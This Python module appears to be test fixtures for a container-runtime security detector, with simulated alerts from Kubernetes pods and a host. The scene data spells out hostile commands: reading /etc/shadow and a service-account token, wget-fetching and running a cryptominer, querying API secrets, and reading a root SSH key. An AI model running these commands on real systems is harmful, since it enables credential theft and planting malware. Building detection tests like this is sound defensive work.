# SPDX-License-Identifier: Apache-2.0
"""Alerts as the default rules write them: a shop in whose pods a person works by hand, and a quiet host."""

from __future__ import annotations

from collections.abc import Mapping, Sequence
from dataclasses import dataclass, field
from typing import Any, Final

_SHIM: Final = "/usr/bin/containerd-shim-runc-v2 -namespace k8s.io -id 3f2a9c1b7d20"
_SHELL: Final = (
    "/sbin/init",
    "/usr/bin/containerd-shim-runc-v2 -namespace k8s.io -id 3f2a9c1b7d20",
    "runc init",
)


@dataclass(frozen=True, slots=True)
class Place:
    """Where it happens; the host has a node only."""

    node: str
    namespace: str = ""
    workload: str = ""
    pod: str = ""
    image: str = ""


@dataclass(frozen=True, slots=True)
class Scene:
    """`line`: the command lines of ancestors, the oldest first, then the process's own."""

    rule: str
    place: Place
    said: str
    line: Sequence[str]
    exepath: str
    values: Mapping[str, Any] = field(default_factory=dict)

    def fields(self) -> dict[str, Any]:
        """Of the output, with those of ancestors."""
        command = self.line[-1]
        found = {
            "proc.cmdline": command,
            "proc.name": command.split()[0].rpartition("/")[2][:15],
            "proc.exepath": self.exepath,
            "proc.pid": 4711,
            "user.name": "root",
            "user.uid": 0,
            "container.id": "3f2a9c1b7d20" if self.place.pod else "host",
            "container.image.repository": self.place.image or None,
            "k8s.ns.name": self.place.namespace or None,
            "k8s.pod.name": self.place.pod or None,
        }
        for depth, one in enumerate(reversed(self.line[:-1]), 1):
            found[f"proc.acmdline[{depth}]"] = one
        return found | dict(self.values)


WEB: Final = Place("node-1", "shop", "web", "web-7d9c5b6f8-x2k4p", "registry.example/shop/web")
CART: Final = Place("node-2", "shop", "cart", "cart-0", "registry.example/shop/cart")
PAY: Final = Place("node-3", "payments", "ledger", "ledger-6c4f7d-9q8zt", "registry.example/payments/ledger")
HOST: Final = Place("node-2")

_LOGIN: Final = ("/sbin/init", "sshd: admin@pts/0", "-bash")
_TOKEN: Final = "/run/secrets/kubernetes.io/serviceaccount/token"  # noqa: S105 (a path)

SCENES: Final = (
    Scene(
        "Shell with a terminal in a container",
        WEB,
        "A shell was spawned in a container with an attached terminal",
        (*_SHELL, "sh"),
        "/bin/busybox",
        {"evt.type": "execve", "proc.tty": 34816, "proc.pname": "runc"},
    ),
    Scene(
        "Sensitive file read",
        WEB,
        "A sensitive file was opened for reading",
        (*_SHELL, "sh", "cat /etc/shadow"),
        "/bin/busybox",
        {"evt.type": "openat", "evt.is_open_read": True, "fd.name": "/etc/shadow", "proc.tty": 34816},
    ),
    Scene(
        "Cluster token read by hand",
        WEB,
        "The token of a pod was read by hand",
        (*_SHELL, "sh", f"cat /var{_TOKEN}"),
        "/bin/busybox",
        {"evt.type": "openat", "fd.name": _TOKEN},
    ),
    Scene(
        "Download in a container by hand or by a server",
        WEB,
        "A file was downloaded in a container",
        (*_SHELL, "sh", "wget -q http://198.51.100.7/x -O /tmp/.x"),
        "/bin/busybox",
        {"evt.type": "execve", "proc.tty": 34816},
    ),
    Scene(
        "Dropped binary executed in a container",
        WEB,
        "A program that the image does not have was executed",
        (*_SHELL, "sh", "/tmp/.x --donate-level 1 -o pool.example:3333"),
        "/tmp/.x",
        {"evt.type": "execve", "proc.is_exe_upper_layer": True},
    ),
    Scene(
        "Shell started by a server",
        CART,
        "A server started a shell",
        ("/sbin/init", _SHIM, "nginx: worker process", "sh -c id; uname -a"),
        "/bin/dash",
        {"evt.type": "execve"},
    ),
    Scene(
        "API server asked by hand",
        PAY,
        "Somebody asked the API server by hand",
        (*_SHELL, "bash", "curl -sk https://10.96.0.1/api/v1/secrets"),
        "/usr/bin/curl",
        {"evt.type": "connect", "fd.name": "10.244.3.9:40112->10.96.0.1:443"},
    ),
    Scene(
        "Package installed in a running container",
        PAY,
        "A package was installed in a running container",
        (*_SHELL, "bash", "apt-get install -y nmap"),
        "/usr/bin/apt-get",
        {"evt.type": "execve"},
    ),
    Scene(
        "SSH key read",
        HOST,
        "A private key was read",
        (*_LOGIN, "less /root/.ssh/id_ed25519"),
        "/usr/bin/less",
        {"evt.type": "openat", "fd.name": "/root/.ssh/id_ed25519"},
    ),
    Scene(
        "Scheduled job changed",
        HOST,
        "A scheduled job was changed",
        (*_LOGIN, "crontab -e"),
        "/usr/bin/crontab",
        {"evt.type": "openat", "fd.name": "/var/spool/cron/crontabs/root"},
    ),
)
